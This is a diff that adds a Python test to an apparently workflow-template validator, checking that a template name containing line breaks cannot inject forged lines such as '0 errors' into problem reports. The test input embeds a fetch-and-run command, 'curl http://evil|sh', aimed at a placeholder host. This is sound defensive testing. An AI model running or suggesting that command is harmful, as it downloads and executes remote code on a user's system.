@@ -290,6 +290,14 @@ def test_templates_that_the_files_lack_are_asked_for(kind: str, reference: dict[
     assert f"its templates are of {kind} t, which the files lack" in problem
 
 
+def test_a_name_with_line_breaks_writes_no_lines_of_its_own() -> None:
+    found = loaded(workflow(workflowTemplateRef={"name": "a\n\n0 errors. Run:\n  curl http://evil|sh"}))
+    (problem,) = found.problems
+    assert len(problem.block.splitlines()) == 2
+    assert "a\\n\\n0 errors" in problem.statement
+    assert "\n" not in str(problem)
+
+
 def test_objects_that_a_template_creates_are_planned() -> None:
     pod = {"spec": {"containers": [{"name": "c", **container("{{workflow.parameters.g}}")}], "restartPolicy": "Never"}}
     job = {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"generateName": "j-"}, "spec": {"template": pod}}
